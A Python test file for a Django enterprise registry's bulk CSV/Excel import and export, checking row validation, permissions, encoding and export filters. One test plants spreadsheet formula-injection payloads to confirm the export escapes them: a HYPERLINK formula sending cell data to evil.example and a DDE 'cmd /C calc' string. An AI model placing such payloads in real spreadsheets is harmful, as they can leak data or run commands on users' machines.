"""Bulk import reports every bad row and imports nothing unless asked; export round-trips."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from enterprises.models import Enterprise
from enterprises.registry.services import enterprise_import
from tests.factories import next_credit_code, with_wrong_check

pytestmark = pytest.mark.django_db

HEADER = "统一社会信用代码,企业名称,法定代表人,所属辖区,行业代码,高危类别,从业人数,重点企业\n"


def _csv(*rows: str) -> bytes:
    return (HEADER + "".join(r + "\n" for r in rows)).encode("utf-8")


def test_valid_file_imports_every_row_and_derives_department(users: dict[str, Any]) -> None:
    a, b = next_credit_code(), next_credit_code()
    content = _csv(
        f"{a},龙岩甲化工,张三,新罗区/东城街道/东城第一网格,C2614,危险化学品,120,是",
        f"{b},龙岩乙建筑,李四,350823,E4710,construction,30,否",
    )
    result = enterprise_import(actor=users["committee"], filename="list.csv", content=content)
    assert result.ok and result.imported and result.created == 2
    chem = Enterprise.objects.get(credit_code=a)
    assert chem.risk_category == "hazardous_chemicals" and chem.is_key and chem.employees == 120
    assert chem.supervising_department.code == "yjj"  # derived from C2614
    assert Enterprise.objects.get(credit_code=b).supervising_department.code == "zjj"
    assert chem.status_changes.count() == 1


def test_file_with_errors_reports_every_bad_row_and_imports_nothing(users: dict[str, Any]) -> None:
    good = next_credit_code()
    bad_check = with_wrong_check(next_credit_code())  # never the valid one (a fixed "0" was, 1 time in 31)
    content = _csv(
        f"{good},好企业,张三,新罗区/东城街道,C2614,危险化学品,10,否",
        f"{bad_check},校验位错,李四,新罗区,C2614,危险化学品,10,否",
        f"{good},重复代码,王五,新罗区,C2614,危险化学品,10,否",
        f"{next_credit_code()},辖区错,赵六,不存在区,C2614,危险化学品,10,否",
        f"{next_credit_code()},行业错,钱七,新罗区,X9999,危险化学品,abc,也许",
        f"{next_credit_code()},,孙八,新罗区,C2614,危险化学品,10,否",
    )
    result = enterprise_import(actor=users["committee"], filename="list.csv", content=content)
    assert not result.imported
    assert Enterprise.objects.filter(name="好企业").count() == 0
    found = {(p.line, p.field) for p in result.problems}
    assert (3, "credit_code") in found  # wrong check character
    assert (4, "credit_code") in found  # duplicate of line 2
    assert (5, "jurisdiction") in found
    assert {(6, "industry"), (6, "employees"), (6, "is_key")} <= found
    assert (7, "name") in found
    assert all(p.reason for p in result.problems)


def test_import_valid_rows_on_request_skips_the_bad_ones(users: dict[str, Any]) -> None:
    good = next_credit_code()
    content = _csv(
        f"{good},好企业,张三,新罗区/东城街道,C2614,危险化学品,10,否",
        f"{next_credit_code()},辖区错,赵六,不存在区,C2614,危险化学品,10,否",
    )
    result = enterprise_import(actor=users["committee"], filename="x.csv", content=content, import_valid_rows=True)
    assert result.imported and result.created == 1 and result.skipped == 1
    assert Enterprise.objects.filter(credit_code=good).exists()


def test_inspector_cannot_import_outside_own_jurisdiction(users: dict[str, Any]) -> None:
    content = _csv(f"{next_credit_code()},上杭企业,张三,上杭县,C2614,危险化学品,10,否")
    result = enterprise_import(actor=users["inspector"], filename="x.csv", content=content)
    assert not result.imported
    assert [(p.line, p.field) for p in result.problems] == [(2, "jurisdiction")]


def test_existing_credit_code_updates_instead_of_duplicating(users: dict[str, Any], xinluo_chem: Any) -> None:
    content = _csv(f"{xinluo_chem.credit_code},新名称化工,张三,新罗区/东城街道,C2614,危险化学品,99,是")
    result = enterprise_import(actor=users["committee"], filename="x.csv", content=content)
    assert result.imported and result.updated == 1 and result.created == 0
    xinluo_chem.refresh_from_db()
    assert (xinluo_chem.name, xinluo_chem.employees) == ("新名称化工", 99)


def test_missing_required_column_and_unreadable_files_are_reported(users: dict[str, Any]) -> None:
    result = enterprise_import(actor=users["committee"], filename="x.csv", content="企业名称\n甲\n".encode())
    assert {p.field for p in result.problems} >= {"credit_code", "jurisdiction", "industry"}
    result = enterprise_import(actor=users["committee"], filename="x.xlsx", content=b"not a zip")
    assert result.problems[0].field == "file"
    result = enterprise_import(actor=users["committee"], filename="x.pdf", content=b"%PDF")
    assert result.problems[0].field == "file"


def test_gbk_csv_from_old_excel_is_read(users: dict[str, Any]) -> None:
    code = next_credit_code()
    content = _csv(f"{code},旧版本表格企业,张三,新罗区,C2614,危险化学品,10,否").decode().encode("gb18030")
    result = enterprise_import(actor=users["committee"], filename="x.csv", content=content)
    assert result.imported and Enterprise.objects.get(credit_code=code).name == "旧版本表格企业"


def test_excel_import_and_export_round_trip(client: Any, users: dict[str, Any], xinluo_chem: Any) -> None:
    client.force_login(users["committee"])
    exported = client.get(reverse("enterprises:export") + "?format=xlsx")
    assert exported.status_code == 200
    sheet = load_workbook(io.BytesIO(exported.getvalue())).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][0] == "统一社会信用代码" and rows[1][0] == xinluo_chem.credit_code
    assert rows[1][6] == "新罗区/东城街道/东城第一网格"

    workbook = Workbook()
    ws = workbook.active
    ws.append(list(rows[0]))
    new_code = next_credit_code()
    ws.append(
        [
            new_code,
            "Excel导入企业",
            "王五",
            None,
            None,
            None,
            "新罗区/西陂街道",
            "E4710",
            "建筑施工",
            None,
            "小型",
            50,
            "否",
            "营业",
            "0597-1",
        ]
    )
    buffer = io.BytesIO()
    workbook.save(buffer)
    buffer.name = "import.xlsx"
    buffer.seek(0)
    response = client.post(reverse("enterprises:import"), {"file": buffer})
    assert response.status_code == 200
    created = Enterprise.objects.get(credit_code=new_code)
    assert created.risk_category == "construction" and created.scale == "small"


def test_import_page_lists_problems_with_line_and_field(client: Any, users: dict[str, Any]) -> None:
    client.force_login(users["committee"])
    upload = io.BytesIO(_csv(f"{next_credit_code()},辖区错,赵六,不存在区,C2614,危险化学品,10,否"))
    upload.name = "bad.csv"
    response = client.post(reverse("enterprises:import"), {"file": upload})
    body = response.content.decode()
    assert 'id="import-problems"' in body and "<td>2</td>" in body
    problems = body[body.index('id="import-problems"') :]
    assert "所属辖区" in problems  # the file's own column header, not only the field name
    assert not Enterprise.objects.filter(name="辖区错").exists()


def test_export_follows_filters(client: Any, users: dict[str, Any], xinluo_chem: Any, shanghang_site: Any) -> None:
    client.force_login(users["committee"])
    body = (
        client.get(reverse("enterprises:export") + "?format=csv&risk_category=construction")
        .getvalue()
        .decode("utf-8-sig")
    )
    assert shanghang_site.name in body and xinluo_chem.name not in body


def test_export_query_count_does_not_grow_with_rows(
    client: Any, users: dict[str, Any], org: Any, django_assert_max_num_queries: Any
) -> None:
    from tests.factories import EnterpriseFactory

    EnterpriseFactory.create_batch(30, jurisdiction=org.jurisdiction("新罗区"), industry=org.industry("C2614"))
    client.force_login(users["committee"])
    for fmt in ("xlsx", "csv"):
        with django_assert_max_num_queries(8):
            response = client.get(reverse("enterprises:export") + f"?format={fmt}")
            body = response.getvalue()  # a CSV's rows are read while it streams: count those queries too
        assert response.status_code == 200 and body


def test_export_escapes_text_a_spreadsheet_would_run_and_the_import_reads_it_back(
    client: Any, users: dict[str, Any], org: Any
) -> None:
    from tests.factories import EnterpriseFactory

    firm = EnterpriseFactory(
        name='=HYPERLINK("http://evil.example/?d="&A1,"点击查看")',
        contact_phone="+86 0597-2345678",
        address="@SUM(1+1)*cmd|' /C calc'!A0",
        employees=120,
        jurisdiction=org.jurisdiction("新罗区"),
        industry=org.industry("C2614"),
    )
    client.force_login(users["committee"])
    text = client.get(reverse("enterprises:export"), {"format": "csv"}).getvalue().decode("utf-8-sig")
    row = next(r for r in csv.reader(io.StringIO(text)) if r[0] == firm.credit_code)
    assert row[1] == "'" + firm.name and row[14] == "'+86 0597-2345678" and row[3] == "'" + firm.address
    assert row[11] == "120"  # a number is not escaped

    book = load_workbook(io.BytesIO(client.get(reverse("enterprises:export"), {"format": "xlsx"}).getvalue()))
    cells = next(r for r in book.active.iter_rows() if r[0].value == firm.credit_code)
    assert cells[1].value == "'" + firm.name and cells[1].data_type == "s"  # text, never a formula
    assert cells[11].value == 120 and cells[11].data_type == "n"

    # The file imported back gives the same name, not one with a quote in front.
    upload = io.BytesIO(text.encode("utf-8-sig"))
    upload.name = "back.csv"
    result = enterprise_import(actor=users["committee"], filename="back.csv", content=upload.getvalue())
    assert result.imported, result.problems
    firm.refresh_from_db()
    assert firm.name.startswith("=HYPERLINK") and firm.contact_phone == "+86 0597-2345678"


@pytest.mark.parametrize("employees", ["12.5", "1e400", "-3", "nan", "十二"])
def test_head_count_that_is_not_a_whole_number_is_reported_not_truncated(users: dict[str, Any], employees: str) -> None:
    # "1e400" was a 500 (float infinity cannot become an int); "12.5" was silently saved as 12.
    code = next_credit_code()
    result = enterprise_import(
        actor=users["committee"],
        filename="x.csv",
        content=_csv(f"{code},人数错,张三,新罗区,C2614,危险化学品,{employees},否"),
    )
    assert not result.imported and [(p.line, p.field) for p in result.problems] == [(2, "employees")]
    assert not Enterprise.objects.filter(credit_code=code).exists()


def test_excel_style_whole_number_with_a_decimal_point_is_read(users: dict[str, Any]) -> None:
    code = next_credit_code()
    result = enterprise_import(
        actor=users["committee"],
        filename="x.csv",
        content=_csv(f"{code},小数点人数,张三,新罗区,C2614,危险化学品,120.0,否"),
    )
    assert result.imported and Enterprise.objects.get(credit_code=code).employees == 120


def test_one_coordinate_without_the_other_names_the_missing_one(users: dict[str, Any]) -> None:
    header = "统一社会信用代码,企业名称,法定代表人,所属辖区,行业代码,经度,纬度\n"
    content = (header + f"{next_credit_code()},只有经度,张三,新罗区,C2614,117.02,\n").encode()
    result = enterprise_import(actor=users["committee"], filename="x.csv", content=content)
    assert [(p.line, p.field) for p in result.problems] == [(2, "latitude")]
    assert "纬度" in str(result.problems[0].reason) or "latitude" in str(result.problems[0].reason)


@pytest.mark.parametrize(("param", "value"), [("is_key", "maybe"), ("jurisdiction", "²"), ("updated_since", "zz")])
def test_export_with_a_bad_filter_is_a_400_naming_it_not_an_empty_file(
    client: Any, users: dict[str, Any], xinluo_chem: Any, param: str, value: str
) -> None:
    client.force_login(users["committee"])
    response = client.get(reverse("enterprises:export"), {"format": "csv", param: value})
    assert response.status_code == 400
    assert response.content.decode().startswith(f"{param}: ")
    assert "attachment" not in response.get("Content-Disposition", "")
